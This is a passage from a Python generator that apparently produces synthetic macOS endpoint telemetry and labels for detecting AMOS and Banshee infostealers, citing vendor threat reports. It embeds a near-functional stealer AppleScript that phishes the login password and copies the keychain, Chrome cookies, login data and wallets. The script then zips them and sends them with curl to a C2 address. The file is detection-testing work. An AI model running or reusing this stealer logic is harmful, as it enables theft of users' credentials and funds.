                '"Opera", profile & "/Library/Application Support/com.operasoftware.Opera/"',
                '"Arc", profile & "/Library/Application Support/Arc/User Data"']
    wallets = ["Electrum", "Coinomi", "Exodus", "Atomic", "Wasabi", "Ledger_Live", "Monero", "Bitcoin_Core",
               "Litecoin_Core", "Dash_Core", "Electrum_LTC", "Electron_Cash", "Guarda", "Dogecoin_Core",
               "Trezor_Suite"]
    script = "\n".join([
        "on filesizer(paths)",
        "\tset fsz to 0",
        "\ttry",
        '\t\tset theItem to quoted form of POSIX path of paths',
        '\t\tset fsz to (do shell script "/usr/bin/mdls -name kMDItemFSSize -raw " & theItem)',
        "\tend try",
        "\treturn fsz",
        "end filesizer",
        "on mkdir(someItem)",
        "\ttry",
        "\t\tset filePosixPath to quoted form of (POSIX path of someItem)",
        '\t\tdo shell script "mkdir -p " & filePosixPath',
        "\tend try",
        "end mkdir",
        "on readwrite(path_to_file, path_as_save)",
        "\ttry",
        '\t\tdo shell script "cat " & quoted form of path_to_file & " > " & quoted form of path_as_save',
        "\tend try",
        "end readwrite",
        "on checkvalid(username, password_entered)",
        "\ttry",
        '\t\tset result to do shell script "dscl . authonly " & quoted form of username & space & quoted form of '
        "password_entered",
        '\t\tif result is not equal to "" then',
        "\t\t\treturn false",
        "\t\telse",
        "\t\t\treturn true",
        "\t\tend if",
        "\ton error",
        "\t\treturn false",
        "\tend try",
        "end checkvalid",
        "on getpwd(username, writemind)",
        "\ttry",
        '\t\tif checkvalid(username, "") then',
        '\t\t\tset result to do shell script "security 2>&1 > /dev/null find-generic-password -ga \\"Chrome\\" | '
        "awk \\\"{print $2}\\\"\"",
        '\t\t\twriteText(result as string, writemind & "masterpass-chrome")',
        "\t\telse",
        "\t\t\trepeat",
        f'\t\t\t\tset result to display dialog "{prompt}" default answer "" with icon caution buttons '
        f'{{"Continue"}} default button "Continue" giving up after 150 with title "{title}" with hidden answer',
        "\t\t\t\tset password_entered to text returned of result",
        "\t\t\t\tif checkvalid(username, password_entered) then",
        '\t\t\t\t\twriteText(password_entered, writemind & "Password")',
        '\t\t\t\t\tset result to do shell script "security 2>&1 > /dev/null find-generic-password -ga '
        '\\"Chrome\\" | awk \\"{print $2}\\""',
        '\t\t\t\t\twriteText(result as string, writemind & "masterpass-chrome")',
        "\t\t\t\t\texit repeat",
        "\t\t\t\tend if",
        "\t\t\tend repeat",
        "\t\tend if",
        "\tend try",
        "end getpwd",
        "on chromium(writemind, chromium_map)",
        '\tset pathToSave to writemind & "Chromium/"',
        "\trepeat with _item in chromium_map",
        "\t\tset savePath to pathToSave & item 1 of _item & \"_\"",
        '\t\trepeat with profileName in {"Default", "Profile 1", "Profile 2"}',
        '\t\t\tset profilePath to item 2 of _item & profileName & "/"',
        '\t\t\tmkdir(savePath & profileName)',
        '\t\t\treadwrite(profilePath & "Cookies", savePath & profileName & "/Cookies")',
        '\t\t\treadwrite(profilePath & "Login Data", savePath & profileName & "/Login Data")',
        '\t\t\treadwrite(profilePath & "Web Data", savePath & profileName & "/Web Data")',
        "\t\tend repeat",
        "\tend repeat",
        "end chromium",
        "on send_data(attempt)",
        "\ttry",
        f'\t\tset result_send to (do shell script "curl -X POST -H \\"user: {build[:12]}\\" -H \\"BuildID: {build}\\" '
        f'-H \\"cl: 0\\" -H \\"cn: 0\\" --max-time 300 --retry 5 --retry-delay 10 -F \\"file=@/tmp/out.zip\\" '
        f'http://{c2}{route}")',
        "\ton error",
        "\t\tif attempt < 10 then",
        "\t\t\tdelay 60",
        "\t\t\tsend_data(attempt + 1)",
        "\t\tend if",
        "\tend try",
        "end send_data",
        'set username to (system attribute "USER")',
        'set profile to "/Users/" & username',
        'set randomNumber to do shell script "echo $((RANDOM % 9000 + 1000))"',
        'set writemind to "/tmp/" & randomNumber & "/"',
        "try",
        '\tset result to (do shell script "system_profiler SPSoftwareDataType SPHardwareDataType '
        'SPDisplaysDataType")',
        '\twriteText(result, writemind & "Sysinfo.txt")',
        "end try",
        "set chromiumMap to {" + ", ".join("{" + b + "}" for b in browsers) + "}",
        "set walletMap to {" + ", ".join(f'{{"deskwallets/{w}", profile & "/.{w.lower()}/"}}' for w in wallets)
        + "}",
        "getpwd(username, writemind)",
        "chromium(writemind, chromiumMap)",
        'readwrite(profile & "/Library/Keychains/login.keychain-db", writemind & "keychain")',
        'readwrite(profile & "/Library/Group Containers/group.com.apple.notes/NoteStore.sqlite", writemind & '
        '"NoteStore.sqlite")',
        'do shell script "ditto -c -k --sequesterRsrc " & writemind & " /tmp/out.zip"',
        "send_data(0)",
        'do shell script "rm -r " & writemind & " /tmp/out.zip"',
    ])
    filler = 0
    while len(script) < pad_to:  # the grabber list of a big build: extension ids of wallet extensions
        script += (f'\nset ext{filler} to "{hpick("abcdefghijklmnop", 32, "ext", filler)}"'
                   f' -- {hpick("ABCDEFGHIJKLMNOPQRSTUVWXYZ", 6, "wallet", filler)}')
        filler += 1
    return script


@dataclass
class AmosRun:
    osascript: Image
    curl: Image
    end: int
    stage_dir: str


def amos_run(h: Host, t: int, app: Image, *, c2: str, route: str = "/joinsystem", password: str,
             prompt: str = AMOS_PROMPT, title: str = "Application wants to install helper", pad_to: int = 0,
             exfil: str = "direct", reuse_curl_pid: int | None = None) -> AmosRun:
    """The app hands the decoded AppleScript to osascript; everything else is ``do shell script`` (/bin/sh -c)."""
    build = hpick("0123456789abcdef", 32, h.name, "build")
    script = amos_script(prompt, title, c2, route, build, pad_to)
    osa = h.spawn(t, app, OSASCRIPT, ["osascript", "-e", script], gap=2_207_000)
    osa_env = h.env_for(osa)
    cursor = t + 401 * MS
    number = 1000 + hnum(h.name, "random") % 9000
    stage = f"/private/tmp/{number}"
    bash = sh_c(h, cursor, osa, "echo $((RANDOM % 9000 + 1000))", env=osa_env)
    h.exit(cursor + 6_118_000, bash)
    cursor += 55 * MS
    _, cursor = run_sh(h, cursor, osa, "system_profiler SPSoftwareDataType SPHardwareDataType "
                              "SPDisplaysDataType", SYSTEM_PROFILER,
                              ["system_profiler", "SPSoftwareDataType", "SPHardwareDataType", "SPDisplaysDataType"],
                              runs=1 * S + 804 * MS)
    stage_node = h.dnode(cursor + 2 * MS, uid=501)
    h.create(cursor + 2 * MS, osa, stage, stage_node)  # writeText makes the folder it writes into
    info = h.node(cursor + 3 * MS)
    h.create(cursor + 3 * MS, osa, f"{stage}/Sysinfo.txt", info)
    h.close(cursor + 5 * MS, osa, f"{stage}/Sysinfo.txt", replace(info, size=2_913))
    cursor += 40 * MS
    _, cursor = run_sh(h, cursor, osa, f"dscl . authonly {shq(h.user)} ''", DSCL,
                       ["dscl", ".", "authonly", h.user, ""], runs=118 * MS, status=1)
    cursor += 13 * S + 870 * MS  # the dialog: the user reads it and types the password
    _, cursor = run_sh(h, cursor, osa, f"dscl . authonly {shq(h.user)} {shq(password)}", DSCL,
                       ["dscl", ".", "authonly", h.user, password], runs=201 * MS)
    pw = h.node(cursor + 4 * MS)
    h.create(cursor + 4 * MS, osa, f"{stage}/Password", pw)
    h.close(cursor + 5 * MS, osa, f"{stage}/Password", replace(pw, size=len(password)))
    cursor += 30 * MS
    pipeline = 'security 2>&1 > /dev/null find-generic-password -ga "Chrome" | awk "{print $2}"'
    bash = sh_c(h, cursor, osa, pipeline, env=osa_env)
    sec = h.spawn(cursor + 5 * MS, bash, SECURITY, ["security", "find-generic-password", "-ga", "Chrome"])
    awk = h.spawn(cursor + 5_400_000, bash, AWK, ["awk", "{print $2}"])
    h.exit(cursor + 611 * MS, sec)
    h.exit(cursor + 613 * MS, awk)
    h.exit(cursor + 615 * MS, bash)
    key = h.node(cursor + 618 * MS)
    h.create(cursor + 618 * MS, osa, f"{stage}/masterpass-chrome", key)
    h.close(cursor + 619 * MS, osa, f"{stage}/masterpass-chrome", replace(key, size=25))
    cursor += 660 * MS
    chrome_src = f"{h.home}/Library/Application Support/Google/Chrome/Default"
    mk_dir = f"{stage}/Chromium/Chrome_Default"
    mkdir, cursor = run_sh(h, cursor, osa, f"mkdir -p {shq(mk_dir.removeprefix('/private'))}", MKDIR,
                           ["mkdir", "-p", mk_dir.removeprefix("/private")], runs=3 * MS)
    h.create(cursor - 1 * MS, mkdir, mk_dir, h.dnode(cursor - 1 * MS))
    copies = [(f"{chrome_src}/Cookies", f"{mk_dir}/Cookies", 1_310_720),
              (f"{chrome_src}/Login Data", f"{mk_dir}/Login Data", 40_960),
              (f"{h.home}/Library/Keychains/login.keychain-db", f"{stage}/keychain", 164_424),
              (f"{h.home}/Library/Group Containers/group.com.apple.notes/NoteStore.sqlite",
               f"{stage}/NoteStore.sqlite", 2_478_080)]
    for src, dst, size in copies:
        command = f"cat {shq(src)} > {shq(dst.removeprefix('/private'))}"
        bash = sh_c(h, cursor, osa, command, env=osa_env)
        out = h.node(cursor + 3_900_000)
        h.create(cursor + 3_900_000, bash, dst, out)  # bash opens the redirection before it execs cat
        cat = h.exec(cursor + 4_702_000, bash, CAT, ["cat", src], env=osa_env)
        h.open(cursor + 5_118_000, cat, src, h.existing(900_000 + hnum(src) % 8_000_000, size))
        done = cursor + 5_118_000 + size // 90_000 * MS // 10 + 2 * MS
        h.close(done, cat, dst, replace(out, size=size, modified=iso_ns(done), changed=iso_ns(done)))
        h.exit(done + 310_000, cat)
        cursor = done + 22 * MS
    zip_node = h.node(cursor + 9 * MS)
    ditto, _ = run_sh(h, cursor, osa, f"ditto -c -k --sequesterRsrc {stage.removeprefix('/private')}/ /tmp/out.zip",
                      DITTO, ["ditto", "-c", "-k", "--sequesterRsrc", f"{stage.removeprefix('/private')}/",
                              "/tmp/out.zip"], runs=690 * MS)
    h.create(cursor + 9 * MS, ditto, "/private/tmp/out.zip", zip_node)
    zip_node = replace(zip_node, size=1_622_118)
    h.close(cursor + 688 * MS, ditto, "/private/tmp/out.zip", zip_node)
    cursor += 740 * MS
    curl_args = ["curl", "-X", "POST", "-H", f"user: {build[:12]}", "-H", f"BuildID: {build}", "-H", "cl: 0", "-H",
                 "cn: 0", "--max-time", "300", "--retry", "5", "--retry-delay", "10", "-F", "file=@/tmp/out.zip",
                 f"http://{c2}{route}"]
    ip = c2.partition(":")[0]
    port = int(c2.partition(":")[2] or 80)
    curl_cmd = shlex.join(curl_args)
    if exfil == "direct":
        curl = sh_c(h, cursor, osa, curl_cmd, CURL, curl_args, env=osa_env, pid=reuse_curl_pid)
        connect_at = cursor + 31 * MS
        end = cursor + 3 * S + 118 * MS
    else:  # "nohup": backgrounded through nohup and a second bash, orphaned when the first shell returns
        inner = f"sleep 3; {curl_cmd}; rm -f /tmp/out.zip"
        outer = f"nohup /bin/bash -c {shq(inner)} > /dev/null 2>&1 &"
        bash = sh_c(h, cursor, osa, outer, env=osa_env)
        job = h.fork(cursor + 5 * MS, bash)
        h.exit(cursor + 6 * MS, bash)
        h.orig_ppid[(job.pid, job.start_ns)] = bash.pid
        job = replace(job, ppid=1, parent=h.launchd)
        nohup = h.exec(cursor + 6_900_000, job, NOHUP, ["nohup", "/bin/bash", "-c", inner], env=osa_env)
        inner_bash = h.exec(cursor + 8_100_000, nohup, BASH, ["/bin/bash", "-c", inner], env=osa_env)
        sleeper = h.spawn(cursor + 10 * MS, inner_bash, SLEEP, ["sleep", "3"])
        h.exit(cursor + 3 * S + 12 * MS, sleeper)
        cursor += 3 * S + 14 * MS
        curl = h.spawn(cursor, inner_bash, CURL, curl_args, env=osa_env, pid=reuse_curl_pid)
        connect_at = cursor + 28 * MS
        end = cursor + 3 * S + 88 * MS
    h.open(connect_at - 2 * MS, curl, "/private/tmp/out.zip", zip_node)
    h.connect(connect_at, curl, ip, port, args=curl_args)
    h.connect(end - 4 * MS, curl, ip, port, args=curl_args, action="disconnect_received", sent=1_622_902,
              received=211)
    h.exit(end, curl)
    if exfil == "direct":
        target = stage.removeprefix("/private") + "/"
        rm, cursor = run_sh(h, end + 30 * MS, osa, f"rm -r {target} /tmp/out.zip", RM,
                            ["rm", "-r", target, "/tmp/out.zip"], runs=9 * MS)
        h.unlink(cursor - 3 * MS, rm, f"{stage}/Password", replace(pw, size=len(password)), stage_node)
        h.unlink(cursor - 1 * MS, rm, "/private/tmp/out.zip", zip_node, h.dnode(cursor, 12, uid=0, ino=2_000_002))
    else:
        rm = h.spawn(end + 2 * MS, inner_bash, RM, ["rm", "-f", "/tmp/out.zip"])
        h.unlink(end + 5 * MS, rm, "/private/tmp/out.zip", zip_node, h.dnode(end, 12, uid=0, ino=2_000_002))
        h.exit(end + 6 * MS, rm)
        h.exit(end + 7 * MS, inner_bash)
        cursor = end + 10 * MS
    h.exit(cursor + 40 * MS, osa)
    return AmosRun(osa, curl, cursor + 40 * MS, stage)



# -- labels --------------------------------------------------------------------------------------------------------

def label(h: Host, *, family: str, reporting: list[str], malicious: bool, route: str, app: str,
          stage3: Image | None, egress: list[tuple[Image, str, int]], payload_files: list[str], note: str,
          expect_detect: bool | None = None, severity: str = "high") -> dict[str, Any]:
    doc: dict[str, Any] = {
        "scenario": h.name, "family": family, "reporting": reporting, "malicious": malicious,
        "expect_detect": malicious if expect_detect is None else expect_detect, "route": route, "app": app,
        "stage3": None if stage3 is None else {"pid": stage3.pid, "executable": stage3.binary.path},
        "egress": [{"pid": img.pid, "dst": ip, "port": port} for img, ip, port in egress],
        "payload_files": payload_files,
    }
    if malicious:
        doc["severity_floor"] = severity
    else:
        doc["severity_ceiling"] = "low"
    doc["macos"] = h.os.full
    doc["eslogger_message_version"] = h.os.es_version
    doc["note"] = note
    return doc


REPORTING = {
    "amos-s1": "SentinelOne Labs, 'Atomic Stealer | Threat Actor Spawns Second Variant of macOS Malware Sold on "
               "Telegram' (2023): https://www.sentinelone.com/blog/atomic-stealer-threat-actor-spawns-second-variant-"
               "of-macos-malware-sold-on-telegram/",
    "amos-jamf": "Jamf Threat Labs, 'Infostealers continue to pose threat to macOS users' (2024): "
                 "https://www.jamf.com/blog/infostealers-pose-threat-to-macos/",
    "amos-mb": "Malwarebytes, 'Atomic Stealer rings in the new year with updated version' (2024): "
               "https://www.malwarebytes.com/blog/threat-intelligence/2024/01/atomic-stealer-rings-in-the-new-year-"
               "with-updated-version",
    "amos-moonlock": "Moonlock (MacPaw), AMOS analyses and 2025 backdoor variant: https://moonlock.com/",
    "banshee-elastic": "Elastic Security Labs, 'Beyond the wail: deconstructing the BANSHEE infostealer' (2024): "
                       "https://www.elastic.co/security-labs/beyond-the-wail",
    "banshee-cp": "Check Point Research, 'Banshee macOS Stealer' new version (Jan 2025): "
                  "https://research.checkpoint.com/",
    "cuckoo": "Kandji, 'Malware: Cuckoo Behaves Like Cross Between Infostealer and Spyware' (Apr 2024): "
              "https://www.kandji.io/blog/malware-cuckoo-infostealer-spyware",
    "poseidon-mb": "Malwarebytes, 'Mac users served info stealer malware through Google ads' (Poseidon, Jun 2024): "
                   "https://www.malwarebytes.com/blog/news/2024/06/mac-users-served-info-stealer-malware-through-"
                   "google-ads",
    "poseidon-ncsc": "NCSC Switzerland, 'Poseidon Stealer' AGOV campaign and technical report (Jun/Jul 2024): "
                     "https://www.ncsc.admin.ch/ncsc/en/home/aktuell/im-fokus/2024/poseidon.html",
    "silversparrow": "Red Canary, 'Clipping Silver Sparrow's wings: Outing macOS malware before it takes flight' "
                     "(2021): https://redcanary.com/blog/clipping-silver-sparrows-wings/",
    "realst": "SentinelOne Labs, 'Realst Infostealer: A New macOS Malware Family Targeting Crypto Wallets' (2023): "
              "https://www.sentinelone.com/blog/realst-infostealer-a-new-macos-malware-family-targeting-crypto-wallets/",
    "shlayer-cb": "VMware Carbon Black TAU, 'OSX.Shlayer malware' (2019); Intego, 'New Mac malware uses "
                  "Flash Player lure' (OSX/Shlayer, 2018)",
    "shlayer-os": "Objective-See, 'Apple Approved Malware: malicious code ...now notarized!?' (Shlayer, 2020): "
                  "https://objective-see.org/blog/blog_0x4E.html",
    "macro-os": "Objective-See, 'Word to Your Mac: analyzing a malicious word document targeting macOS users' "
                "(2017): https://objective-see.org/blog.html",
    "macro-sandbox": "Adam Chester (XPN), 'Escaping the Microsoft Office Sandbox: a faulty regex, allowing "
                     "malicious code to escape and persist' (2018) / Patrick Wardle, 'Office drama on macOS' (2020)",
    "rustbucket": "Jamf Threat Labs, 'BlueNoroff APT group targets macOS with RustBucket Malware' (Apr 2023): "
                  "https://www.jamf.com/blog/bluenoroff-apt-targets-macos-rustbucket-malware/",
    "frigid-pp": "Proofpoint, 'An Update on Fake Updates: Two New Actors, and New Mac Malware' (FrigidStealer, "
                 "Feb 2025): https://www.proofpoint.com/us/blog/threat-insight/update-fake-updates-two-new-actors-"
                 "and-new-mac-malware",
    "frigid-jamf": "Jamf Threat Labs, 'FrigidStealer' (Feb 2025): https://www.jamf.com/blog/",
    "clickfix": "CloudSEK, 'AMOS stealer delivered through ClickFix (Spectrum-themed fake CAPTCHA)' (Jun 2025); "
                "Microsoft Threat Intelligence, 'Think before you Click(Fix)' (Aug 2025)",
    "meeten": "Cado Security, 'Meeten malware threat: fake meeting software spreads Realst' (Dec 2024), lures "
              "sent over Telegram: https://www.cadosecurity.com/blog/",
    "cthulhu": "Cado Security, 'Cthulhu Stealer: how cybercriminals are targeting macOS users' (Aug 2024)",
    "gk-override": "swiftly-detecting (notion), 'ES Gatekeeper User Override' (Aug 2024); Jamf Protect unified-log "
                   "filters (gatekeeper_bypass, git history of jamf/jamfprotect)",
    "translocation": "Howard Oakley, 'Lost in Translocation' (eclecticlight.co, 2024)",
}


# -- scenarios -------------------------------------------------------------------------------------------------------

Scenario = tuple[Host, dict[str, Any]]
SCENARIOS: dict[str, Callable[[], Scenario]] = {}


def scenario(name: str) -> Callable[[Callable[[str], Scenario]], Callable[[str], Scenario]]:
    def register(fn: Callable[[str], Scenario]) -> Callable[[str], Scenario]:
        def build() -> Scenario:
            h, expected = fn(name)
            background(h)
            return h, expected
        SCENARIOS[name] = build
        return fn
    return register


def background(h: Host) -> None:
    """What every Mac does besides the story, after it: Spotlight workers, Apple network traffic, daemons."""
    end = max(t for t, *_ in h.es_records)
    noise_mdworker(h, end + 17 * S + 402_118_000)
    noise_apple_network(h, end + 21 * S + 9_004_000)
    h.ul(end + 4 * S + 118_000_000, "bluetoothd", "Stopping LE scan for com.apple.bluetoothd-central-0",
         "Stopping LE scan for %{public}s", pid=171 + hnum(h.name, "bt") % 20, mtype="Default")
    cfprefsd = h.launch(end + 29 * S + 661_000_000, CFPREFSD, job="com.apple.cfprefsd.xpc.agent",
                        args=[CFPREFSD.path, "agent"])
    h.exit(end + 89 * S + 2_000_000, cfprefsd)


def start_chrome(h: Host, t: int) -> tuple[Image, Image, Image]:
    chrome = h.launch(t, CHROME, bundle_id="com.google.Chrome", app_url="/Applications/Google Chrome.app")
    gpu = h.spawn(t + 160 * MS, chrome, CHROME_GPU, ["Google Chrome Helper (GPU)", "--type=gpu-process",
                                                     "--gpu-preferences=UAAAAAAAAAAgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAA"])
    net, ren = chromium_helpers(h, t + 171 * MS, chrome, CHROME_HELPER, CHROME_RENDERER, framework="Google/Chrome",
                                version=CHROME_VERSION)
    del gpu
    return chrome, net, ren


def adhoc_app(signing_id: str, size: int, ino: int, *, flags: int = FLAGS_ADHOC_LINKER,
              team: str | None = None) -> Callable[[str, int], Binary]:
    def build(path: str, dev: int) -> Binary:
        return malware(path, signing_id, size, team=team, flags=flags, dev=dev, ino=ino)
    return build


def volume_app(h: Host, vol: Volume, app_name: str, exe: str, size: int, t: int) -> tuple[str, Inode, int]:
    """An app on a mounted disk image: its bundle folder node and the main executable's inode number."""
    path = f"{vol.path}/{app_name}"
    built = "2026-02-24T03:12:09.000000000Z"
    node = Inode(ino=hnum(h.name, path) % 900 + 20, size=96, mode=0o040755, uid=501, gid=20, dev=vol.dev, nlink=3,
                 birth=built, modified=built, changed=built, accessed=iso_ns(t))
    exe_ino = hnum(h.name, path, exe) % 900 + 1_000
    return path, node, exe_ino


@scenario("amos-dmg-chrome")
def amos_dmg_chrome(name: str) -> Scenario:
    h = Host(name, MACOS15, "2026-03-02", 60, "mkoch", "2026-02-23T07:41:12.218004", "192.168.178.41", 2_210,
             71_400, asid=100_014)
    d = daemons(h)
    chrome, net, _ = start_chrome(h, h.t("09:58:10.118204"))
    chrome_profile_noise(h, h.t("09:59:02.530117"), chrome)
    noise_mdworker(h, h.t("09:59:40.004812"))
    h.connect(h.t("10:03:11.802114"), net, "172.67.181.92", 443, domain="installer-macos.pages.dev")
    dmg, dmg_node = chrome_like_download(h, chrome, "Installer_v2.4.1_arm64.dmg", 7_340_032,
                                         h.t("10:03:12.402911"), h.t("10:03:19.771034"))
    h.connect(h.t("10:03:12.311902"), net, "104.21.56.13", 443, domain="dl.mac-installer-app.com")
    vol = mount_dmg(h, d, h.t("10:03:24.118022"), dmg, dmg_node, "Installer", click=False)
    app_path, app_node, exe_ino = volume_app(h, vol, "Installer.app", "Installer", 0, h.t("10:03:30"))
    opened = open_app(h, d, h.t("10:03:31.240511"), app_path=app_path, exe_name="Installer",
                      bundle_id="com.setup.installer", app_node=app_node, flow="blocked", translocate=True,
                      binary_of=adhoc_app("com.setup.installer", 3_401_552, exe_ino))
    app = opened.app
    run = amos_run(h, h.t("10:04:32.604118"), app, c2="85.209.11.155", password="Sommer2025!")
    h.exit(run.end + 311 * MS, app)
    chrome_profile_noise(h, h.t("10:05:20.902231"), chrome)
    return h, label(
        h, family="AMOS/Atomic", reporting=[REPORTING["amos-s1"], REPORTING["amos-jamf"], REPORTING["amos-mb"]],
        malicious=True, route="dmg", app="Google Chrome", stage3=app, egress=[(run.curl, "85.209.11.155", 80)],
        payload_files=[dmg], severity="critical",
        note="Chrome's browser process writes Installer_v2.4.1_arm64.dmg.crdownload, renames it and quarantines "
             "it; the image mounts at /Volumes/Installer (not the file name); Installer.app is ad-hoc (linker) "
             "signed, so it is translocated, refused once (macOS 15: no right-click Open), allowed in System "
             "Settings (ES gatekeeper_user_override + 'Cleared Gatekeeper rejection record') and opened again. "
             "The app hands an AMOS AppleScript to osascript; every step after that is do shell script "
             "(/bin/sh -> bash -> exec of the command in the same pid): dscl authonly, security "
             "find-generic-password, cat copies of Chrome Cookies/Login Data/Web Data, login.keychain-db and "
             "NoteStore.sqlite into /tmp/<n>/, ditto to /tmp/out.zip and curl -X POST -F file=@/tmp/out.zip to a "
             "raw IP. The egress pid is the sh -c pid that became curl.")


GREP = apple("/usr/bin/grep", "com.apple.grep", 882_101, 171_152)
DEFAULTS = apple("/usr/bin/defaults", "com.apple.defaults", 881_050, 118_976)
OPEN = apple("/usr/bin/open", "com.apple.open", 883_011, 134_480)
WHOAMI = apple("/usr/bin/whoami", "com.apple.whoami", 884_990, 100_528)
PATH_HELPER = apple("/usr/libexec/path_helper", "com.apple.path_helper", 886_700, 100_880)
SAFARI_JOB = "application.com.apple.Safari.1152921500311884871.1152921500311884879"


def start_safari(h: Host, t: int) -> tuple[Image, Image, Image]:
    safari = h.launch(t, SAFARI, bundle_id="com.apple.Safari", app_url="/Applications/Safari.app", job=SAFARI_JOB)
    networking = h.launch(t + 298 * MS, NETWORKING, responsible=safari, job="com.apple.WebKit.Networking")
    webcontent = h.launch(t + 410 * MS, WEBCONTENT, responsible=safari, job="com.apple.WebKit.WebContent")
    return safari, networking, webcontent


def start_firefox(h: Host, t: int) -> Image:
    firefox = h.launch(t, FIREFOX, bundle_id="org.mozilla.firefox", app_url="/Applications/Firefox.app")
    build = "20260217111823"
    for i, kind in enumerate(("socket", "tab", "tab", "rdd")):
        at = t + (640 + 211 * i) * MS
        args = ["/Applications/Firefox.app/Contents/MacOS/plugin-container.app/Contents/MacOS/plugin-container",
                "-isForBrowser" if kind == "tab" else "-sbStartup", "-prefsLen", str(31_712 + 40 * i),
                "-prefMapSize", "244787", "-jsInitLen", "231800", "-sbStartup", "-sbAppPath",
                "/Applications/Firefox.app", "-sbLevel", "3", "-parentBuildID", build, "-greomni",
                "/Applications/Firefox.app/Contents/Resources/omni.ja", "-appomni",
                "/Applications/Firefox.app/Contents/Resources/browser/omni.ja", "-appDir",
                "/Applications/Firefox.app/Contents/Resources/browser", "{" + huuid(h.name, "ff", i).lower() + "}",
                str(firefox.pid), f"gecko-crash-server-pipe.{firefox.pid}",
                f"org.mozilla.machname.{1_000_000_000 + hnum(h.name, 'mach', i) % 999_999_999}", kind]
        h.spawn(at, firefox, PLUGIN_CONTAINER, args)
    return firefox


def start_edge(h: Host, t: int) -> tuple[Image, Image]:
    edge = h.launch(t, EDGE, bundle_id="com.microsoft.edgemac", app_url="/Applications/Microsoft Edge.app")
    net, _ = chromium_helpers(h, t + 220 * MS, edge, EDGE_HELPER, EDGE_RENDERER, framework="Microsoft Edge",
                              version=EDGE_VERSION)
    return edge, net


def noise_apple_network(h: Host, t: int) -> None:
    """nsurlsessiond and softwareupdated talk to Apple all day."""
    nsurl = h.running(NSURLSESSIOND, pid=480 + hnum(h.name, "nsurl") % 40, start=h.boot_ns + 52_000_000_000)
    h.connect(t, nsurl, "17.253.53.207", 443, domain="swcdn.apple.com")
    sud = h.running(SOFTWAREUPDATED, pid=430 + hnum(h.name, "sud") % 40, start=h.boot_ns + 48_000_000_000,
                    cred=ROOT_CRED)
    h.connect(t + 7 * S + 118 * MS, sud, "17.32.194.37", 443, domain="gdmf.apple.com")


@scenario("banshee-dmg-safari")
def banshee_dmg_safari(name: str) -> Scenario:
    h = Host(name, MACOS26, "2026-03-09", -240, "dana", "2026-03-04T13:02:51.771031", "10.0.1.57", 1_904, 58_220,
             asid=100_011)
    d = daemons(h)
    _, networking, _ = start_safari(h, h.t("14:20:05.004218"))
    noise_apple_network(h, h.t("14:20:31.118400"))
    h.connect(h.t("14:22:40.611203"), networking, "188.114.97.3", 443, domain="cleanmymac-x.software")
    dmg, dmg_node = safari_download(h, networking, "CleanMyMac-X-4.15.dmg", 12_906_496, h.t("14:22:41.302771"),
                                    h.t("14:22:49.914482"))
    vol = mount_dmg(h, d, h.t("14:22:55.207115"), dmg, dmg_node, "Mac Optimizer Pro", fstype="apfs", disk="disk5",
                    blocks=7_168)
    app_path, app_node, exe_ino = volume_app(h, vol, "CleanMyMac X.app", "CleanMyMac X", 0, h.t("14:23:00"))
    opened = open_app(h, d, h.t("14:23:02.887140"), app_path=app_path, exe_name="CleanMyMac X",
                      bundle_id="com.cleanmymacx.setup", app_node=app_node, flow="blocked", translocate=True,
                      binary_of=adhoc_app("com.cleanmymacx.setup", 2_211_648, exe_ino, flags=FLAGS_ADHOC))
    app = opened.app
    t = h.t("14:24:02.114302")
    # anti-VM check, then the password phish through osascript, checked with dscl
    bash = sh_c(h, t, app, "system_profiler SPHardwareDataType | grep 'Model Identifier'")
    prof = h.spawn(t + 6 * MS, bash, SYSTEM_PROFILER, ["system_profiler", "SPHardwareDataType"])
    grep = h.spawn(t + 6_400_000, bash, GREP, ["grep", "Model Identifier"])
    h.exit(t + 702 * MS, prof)
    h.exit(t + 704 * MS, grep)
    h.exit(t + 705 * MS, bash)
    prompt = ('display dialog "To launch the application, you need to update the system settings \n\nPlease enter '
              'your password." with title "System Preferences" with icon caution default answer "" giving up after '
              '30 with hidden answer')
    osa = sh_c(h, t + 1 * S, app, f"osascript -e {shq(prompt)}", OSASCRIPT, ["osascript", "-e", prompt])
    h.exit(t + 12 * S + 881 * MS, osa)
    _, end = run_sh(h, t + 12 * S + 902 * MS, app, f"dscl /Local/Default -authonly {h.user} 'k7#Harbor'", DSCL,
                    ["dscl", "/Local/Default", "-authonly", h.user, "k7#Harbor"], runs=188 * MS)
    stage = f"/private/tmp/{hpick('abcdefghijklmnopqrstuvwxyz0123456789', 10, h.name, 'stage')}"
    cursor = end + 60 * MS
    h.create(cursor, app, stage, h.dnode(cursor))
    grabbed = [("Library/Application Support/Google/Chrome/Default/Cookies", "Browsers/Chrome/Default/Cookies",
                917_504),
               ("Library/Application Support/Google/Chrome/Default/Login Data", "Browsers/Chrome/Default/Login Data",
                53_248),
               ("Library/Keychains/login.keychain-db", "Keychain/login.keychain-db", 221_184),
               ("Library/Application Support/Exodus/exodus.wallet/seed.seco", "Wallets/Exodus/seed.seco", 1_204)]
    for rel, dst, size in grabbed:
        cursor += 14 * MS
        h.open(cursor, app, f"{h.home}/{rel}", h.existing(700_000 + hnum(rel) % 9_000_000, size))
        node = h.node(cursor + 1 * MS)
        h.create(cursor + 1 * MS, app, f"{stage}/{dst}", node)
        h.close(cursor + 9 * MS, app, f"{stage}/{dst}", replace(node, size=size))
    cursor += 40 * MS
    short = stage.removeprefix("/private")
    ditto, cursor2 = run_sh(h, cursor, app, f"ditto -c -k --sequesterRsrc --keepParent {short} {short}.zip", DITTO,
                            ["ditto", "-c", "-k", "--sequesterRsrc", "--keepParent", short, f"{short}.zip"],
                            runs=412 * MS)
    zipped = h.node(cursor + 9 * MS)
    h.create(cursor + 9 * MS, ditto, f"{stage}.zip", zipped)
    h.close(cursor + 410 * MS, ditto, f"{stage}.zip", replace(zipped, size=1_190_228))
    h.open(cursor2 + 30 * MS, app, f"{stage}.zip", replace(zipped, size=1_190_228))
    c2 = "77.91.124.18"
    h.connect(cursor2 + 244 * MS, app, c2, 80)  # the encoded archive is POSTed by the app itself
    h.connect(cursor2 + 2 * S + 301 * MS, app, c2, 80, action="disconnect_received", sent=1_588_410, received=146)
    _, cursor3 = run_sh(h, cursor2 + 2 * S + 340 * MS, app, f"rm -rf {short} {short}.zip", RM,
                        ["rm", "-rf", short, f"{short}.zip"], runs=8 * MS)
    h.exit(cursor3 + 120 * MS, app)
    noise_mdworker(h, h.t("14:24:40.551023"))
    return h, label(
        h, family="Banshee Stealer", reporting=[REPORTING["banshee-elastic"], REPORTING["banshee-cp"]],
